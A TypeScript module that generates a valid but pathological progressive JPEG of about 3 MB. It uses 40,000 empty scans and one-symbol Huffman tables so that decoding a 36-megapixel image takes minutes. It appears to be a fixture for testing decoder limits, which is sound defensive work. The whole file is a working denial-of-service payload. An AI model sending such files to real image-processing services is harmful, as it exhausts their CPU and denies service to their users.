const SIDE_PX = 6_000;
const BLOCKS = (SIDE_PX / 8) ** 2;
const SCANS = 40_000;
/** With the table below, 15 zero bits say that the next 16,384 blocks have nothing new. */
const SCAN_BYTES = Math.ceil(((BLOCKS / 16_384) * 15) / 8) + 2;

const segment = (marker: number, body: readonly number[]): Buffer =>
  Buffer.from([0xff, marker, (body.length + 2) >> 8, (body.length + 2) & 0xff, ...body]);
/** A Huffman table with one symbol, whose code is a zero bit. */
const huffman = (kind: number, symbol: number): Buffer =>
  segment(0xc4, [kind, 1, ...new Array<number>(15).fill(0), symbol]);
const scan = (last: number, bytes: number): Buffer =>
  Buffer.concat([segment(0xda, [1, 1, 0, last === 0 ? 0 : 1, last, 0]), Buffer.alloc(bytes)]);

/**
 * A sound JPEG of 3 MB that takes minutes to decode: 40,000 scans go over all blocks of a 36 megapixel picture and change
 * nothing.
 */
export function endlessJpeg(): Buffer {
  const size = [SIDE_PX >> 8, SIDE_PX & 0xff];
  const head = [
    Buffer.from([0xff, 0xd8]),
    segment(0xdb, [0, ...new Array<number>(64).fill(1)]),
    segment(0xc2, [8, ...size, ...size, 1, 1, 0x11, 0]),
    huffman(0x00, 0),
    huffman(0x10, 0xe0),
    scan(0, BLOCKS / 8 + 2),
  ];
  return Buffer.concat([...head, ...new Array<Buffer>(SCANS).fill(scan(63, SCAN_BYTES)), Buffer.from([0xff, 0xd9])]);
}
